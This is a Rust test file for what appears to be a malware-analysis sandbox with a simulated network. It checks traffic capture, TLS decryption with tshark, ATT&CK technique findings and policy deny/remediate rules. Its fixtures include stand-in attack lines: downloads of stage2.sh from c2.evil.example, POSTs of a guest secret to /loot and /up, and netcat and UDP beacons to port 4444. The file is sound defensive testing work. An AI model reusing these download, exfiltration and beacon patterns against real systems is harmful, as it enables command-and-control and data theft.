//! The simulated network, as ordinary programs in the guest find it; Wireshark decrypts what they said.

use std::collections::BTreeSet;
use std::process::Command;

use lava_event::{Action, Event, Kind, Sha256};

use crate::common::{Ran, decisions, play, root, run};

/// Runs tshark over the session's capture.
pub fn tshark(ran: &Ran, arguments: &[&str]) -> String {
    let mut command = Command::new("tshark");
    // The TLS that is not on its own port is told by its keys and this.
    command.args(["-d", "tcp.port==8443,tls", "-r"]).arg(ran.session.dir().join("traffic.pcapng")).args(arguments);
    let output = command.output().unwrap_or_else(|error| panic!("tshark: {error}: run `cargo xtask setup`"));
    assert!(output.status.success(), "tshark: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn program(event: &Event) -> String {
    let exe = event.process.as_ref().map(|process| String::from_utf8_lossy(process.exe.bytes()).into_owned());
    exe.unwrap_or_default().rsplit('/').next().unwrap_or_default().to_owned()
}

#[test]
fn ordinary_programs_find_a_network() {
    let web = tempfile::tempdir().unwrap();
    let host = web.path().join("c2.evil.example");
    std::fs::create_dir(&host).unwrap();
    std::fs::write(host.join("stage2.sh"), "#!/bin/sh\n# stage two\n").unwrap();
    std::fs::write(host.join("tool.sh"), "#!/bin/sh\necho the tool ran\n").unwrap();
    let task = root().join("crates/lava/tests/vm/tasks/network.sh");
    let web = web.path().to_str().unwrap();
    let ran =
        run(&[task.to_str().unwrap(), "--net", "simulated", "--net-content", web, "--console", "--timeout", "600"]);
    let said: Vec<&str> = ran.console.lines().filter(|line| !line.is_empty()).collect();
    let console = said.join("\n");
    for line in [
        "NET dig 198.18.0.1",
        "NET curl #!/bin/sh\n# stage two",
        "NET curl-https <!DOCTYPE html>",
        "NET wget #!/bin/sh\n# stage two",
        "NET openssl # stage two",
        "NET nc 0",
        "NET ssh-banner SSH-2.0-Ope",
        "NET python #!/bin/sh\n# stage two\n200\nrefused",
        "NET tool the tool ran",
        "NET end",
    ] {
        assert!(console.contains(line), "{line}\nin\n{console}\n{}", ran.stderr);
    }

    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let asked: BTreeSet<(String, bool, String, String)> = ran
        .events
        .iter()
        .filter_map(|event| match &event.kind {
            Kind::NetHttp { tls, method, path, host, .. } if *host == "c2.evil.example".into() => {
                Some((program(event), *tls, text(method.bytes()), text(path.bytes())))
            }
            _ => None,
        })
        .collect();
    for (name, tls, method, path) in [
        ("curl", false, "GET", "/stage2.sh"),
        ("curl", true, "POST", "/gate.php"),
        ("wget", false, "GET", "/stage2.sh"),
        ("openssl", true, "GET", "/stage2.sh"),
        ("python3.11", true, "GET", "/stage2.sh"),
        ("python3.11", true, "POST", "/up"),
        ("curl", false, "GET", "/tool.sh"),
        ("curl", false, "POST", "/loot"),
    ] {
        assert!(asked.contains(&(name.into(), tls, method.into(), path.into())), "{name} {path}: {asked:?}");
    }
    let secret = Sha256::of(b"id=secret-of-the-guest");
    assert!(
        ran.events.iter().any(
            |event| matches!(&event.kind, Kind::NetHttp { request_sha256: Some(sha256), .. } if *sha256 == secret)
        )
    );
    assert!(ran.session.dir().join("artifacts").join(secret.to_string()).is_file(), "what was sent is kept");

    let by = |of: fn(&Kind) -> bool| ran.events.iter().find(|event| of(&event.kind)).map(program);
    let name = |kind: &Kind| matches!(kind, Kind::NetDns { question, .. } if *question == "c2.evil.example".into());
    assert_eq!(by(name).as_deref(), Some("dig"), "who asked for the name first");
    let mail =
        |kind: &Kind| matches!(kind, Kind::NetMail { subject: Some(s), complete: true, .. } if *s == "invoice".into());
    assert_eq!(by(mail).as_deref(), Some("python3.11"));
    let nc = |kind: &Kind| matches!(kind, Kind::NetStream { sent: 13, application, .. } if application == "unknown");
    assert_eq!(by(nc).as_deref(), Some("nc.openbsd"));
    let datagram = |kind: &Kind| matches!(kind, Kind::NetStream { sent: 6, protocol: lava_event::Protocol::Udp, .. });
    assert_eq!(by(datagram).as_deref(), Some("python3.11"));
    let trusted = |kind: &Kind| matches!(kind, Kind::NetTls { outcome, .. } if outcome != "established");
    assert_eq!(by(trusted), None, "everybody trusts the session's authority");

    let found: BTreeSet<&str> = ran.findings.iter().map(|finding| finding.technique.id.as_str()).collect();
    assert!(found.contains("T1105") && found.contains("T1041"), "{found:?}");

    let bad = "_ws.malformed || _ws.expert.severity == error || ip.checksum.status == 0";
    assert_eq!(tshark(&ran, &["-Y", bad]), "");
    let decrypted = tshark(&ran, &["-Y", "http.request && tls", "-T", "fields", "-e", "http.request.uri"]);
    let decrypted: BTreeSet<&str> = decrypted.lines().collect();
    assert_eq!(decrypted, BTreeSet::from(["/gate.php", "/stage2.sh", "/up"]));
    let ja3: BTreeSet<String> =
        tshark(&ran, &["-Y", "tls.handshake.type == 1", "-T", "fields", "-e", "tls.handshake.ja3"])
            .lines()
            .map(str::to_owned)
            .collect();
    let ours: BTreeSet<String> = ran
        .events
        .iter()
        .filter_map(|event| match &event.kind {
            Kind::NetTls { ja3, .. } => Some(ja3.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(ja3, ours, "fingerprints, as Wireshark makes them");
    assert_eq!(ran.code, Some(3));
}

/// What was decided about flows to a port, and about names: program, action, rule, outcome.
pub fn decided(ran: &Ran, wanted: impl Fn(&Kind) -> bool) -> BTreeSet<(String, Action, String, String)> {
    let about = ran.events.iter().filter(|event| wanted(&event.kind));
    about
        .flat_map(|event| {
            let found = decisions(ran, |other| other.seq == event.seq);
            assert_eq!(found.len(), 1, "asked once, answered once: {event:?}");
            found.into_iter().map(|(action, rule, outcome)| (program(event), action, rule.unwrap_or_default(), outcome))
        })
        .collect()
}

pub fn flow_to(port: u16) -> impl Fn(&Kind) -> bool {
    move |kind| matches!(kind, Kind::NetFlow { destination, .. } if destination.port == port)
}

fn asks_for(name: &str) -> impl Fn(&Kind) -> bool {
    move |kind| matches!(kind, Kind::NetDns { question, .. } if *question == name.into())
}

#[test]
fn what_the_policy_refuses_is_refused() {
    let policy = "policy: mine
default: allow
rules:
  - name: names
    when: trace.tainted && event.kind == 'net.dns' && event.question.endsWith('.evil.example')
    action: deny
  - name: flows
    when: trace.tainted && event.kind == 'net.flow' && event.destination.port in [4444, 445]
    action: deny
";
    let script = r#"
        echo "NET name $(dig +time=20 c2.evil.example | grep -o NXDOMAIN)"
        echo "NET web $(curl -s --max-time 60 http://good.example/ | head -c 9)"
        echo "NET c2 $(timeout 60 nc -v 203.0.113.9 4444 2>&1 </dev/null | grep -o refused)"
        echo "NET share $(timeout 60 nc -v 10.77.0.3 445 2>&1 </dev/null | grep -o refused)"
        python3 - <<'PY'
import socket
beacon = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
beacon.connect(("203.0.113.9", 4444))
beacon.settimeout(60)
beacon.send(b"one")
try:
    beacon.recv(1)
except ConnectionRefusedError:
    print("NET beacon refused")
PY
        echo NET end"#;
    let ran = play(script, policy, &["--net", "simulated", "--timeout", "600"]);
    for line in ["name NXDOMAIN", "web <!DOCTYPE", "c2 refused", "share refused", "beacon refused", "end"] {
        assert!(ran.console.contains(&format!("NET {line}")), "{line}\n{}\n{}", ran.console, ran.stderr);
    }
    let row = |program: &str, action, rule: &str, outcome: &str| (program.into(), action, rule.into(), outcome.into());
    let reset = "refused: the guest got a reset";
    let nobody = "refused: the guest was told that nobody is there";
    assert_eq!(
        decided(&ran, asks_for("c2.evil.example")),
        [row("dig", Action::Deny, "names", "the guest was told that the name does not exist")].into()
    );
    assert_eq!(
        decided(&ran, flow_to(4444)),
        [row("nc.openbsd", Action::Deny, "flows", reset), row("python3.11", Action::Deny, "flows", nobody)].into()
    );
    assert_eq!(decided(&ran, flow_to(445)), [row("nc.openbsd", Action::Deny, "flows", reset)].into());
    assert_eq!(decided(&ran, flow_to(80)), [row("curl", Action::Allow, "", "the simulated network took it")].into());
    let spoke = |event: &Event| matches!(&event.kind, Kind::NetStream { destination, .. } if destination.port != 80);
    assert!(!ran.events.iter().any(spoke), "nobody spoke to whom the policy refused");
}

#[test]
fn what_the_policy_diverts_meets_the_simulated_network_alone() {
    let policy = "policy: mine
default: allow
rules:
  - name: name
    when: event.kind == 'net.dns' && event.question == 'c2.example'
    action: remediate
  - name: web
    when: trace.tainted && event.kind == 'net.flow' && event.destination.port == 80
    action: remediate
";
    let script = r#"
        echo "NET c2 $(curl -s --max-time 60 http://c2.example/ | head -c 9)"
        echo "NET other $(curl -s --max-time 60 http://other.example/ || echo none)"
        echo "NET port $(timeout 60 nc -v 203.0.113.9 81 2>&1 </dev/null | grep -o refused)"
        echo NET end"#;
    let ran = play(script, policy, &["--net", "refused", "--timeout", "600"]);
    for line in ["c2 <!DOCTYPE", "other none", "port refused", "end"] {
        assert!(ran.console.contains(&format!("NET {line}")), "{line}\n{}\n{}", ran.console, ran.stderr);
    }
    let actions = |found: BTreeSet<(String, Action, String, String)>| -> BTreeSet<Action> {
        found.into_iter().map(|(_, action, ..)| action).collect()
    };
    assert_eq!(actions(decided(&ran, asks_for("c2.example"))), [Action::Remediate].into());
    assert_eq!(actions(decided(&ran, asks_for("other.example"))), [Action::Allow].into());
    assert_eq!(actions(decided(&ran, flow_to(80))), [Action::Remediate].into());
    assert_eq!(actions(decided(&ran, flow_to(81))), [Action::Allow].into());
    let asked = |event: &Event| matches!(&event.kind, Kind::NetHttp { host, .. } if *host == "c2.example".into());
    assert!(ran.events.iter().any(asked), "what the diverted said is told");
}

/// Runs a tool of the host's JDK in a folder.
fn jdk(folder: &std::path::Path, tool: &str, arguments: &[&str]) {
    let output = Command::new(tool).args(arguments).current_dir(folder).output();
    let output = output.unwrap_or_else(|error| panic!("{tool}: {error}: run `cargo xtask setup`"));
    assert!(output.status.success(), "{tool}: {}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn java_trusts_the_session_s_authority() {
    let folder = tempfile::tempdir().unwrap();
    let source = root().join("crates/lava/tests/vm/tasks/Fetch.java");
    jdk(folder.path(), "javac", &["--release", "17", "-d", ".", source.to_str().unwrap()]);
    jdk(folder.path(), "jar", &["--create", "--file", "fetch.jar", "--main-class", "Fetch", "Fetch.class"]);
    let task = folder.path().join("fetch.jar");
    let ran = run(&[task.to_str().unwrap(), "--console", "--timeout", "300"]);
    assert!(ran.console.contains("NET java 200"), "{}\n{}", ran.console, ran.stderr);
    let spoke = |event: &Event| matches!(&event.kind, Kind::NetTls { outcome, .. } if outcome == "established");
    assert_eq!(ran.events.iter().find(|event| spoke(event)).map(program).as_deref(), Some("java"));
}
